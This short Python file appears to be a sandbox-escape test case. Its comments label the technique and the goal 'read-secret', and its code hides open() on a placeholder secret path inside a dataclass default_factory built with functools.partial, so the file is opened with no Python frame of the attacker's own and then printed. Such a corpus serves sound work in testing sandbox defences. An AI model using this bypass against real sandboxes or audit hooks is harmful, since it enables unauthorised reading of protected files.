# technique: a default factory without a frame is called by generated code
# goal: read-secret
# source: own analysis: attacker's C callables below a trusted frame
import dataclasses
import functools


@dataclasses.dataclass
class D:
    x: object = dataclasses.field(default_factory=functools.partial(open, '@SECRET@'))


print(D().x.read())
